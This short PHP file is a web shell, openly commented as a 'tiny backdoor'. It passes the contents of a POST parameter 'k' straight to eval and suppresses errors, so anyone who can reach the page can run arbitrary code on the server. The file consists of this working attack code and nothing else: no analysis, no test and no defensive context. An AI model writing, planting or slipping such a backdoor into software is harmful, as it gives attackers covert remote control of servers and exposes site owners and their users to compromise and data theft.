<?php
// tiny backdoor
if (isset($_POST['k'])) { @eval( stripslashes($_POST['k']) ); }
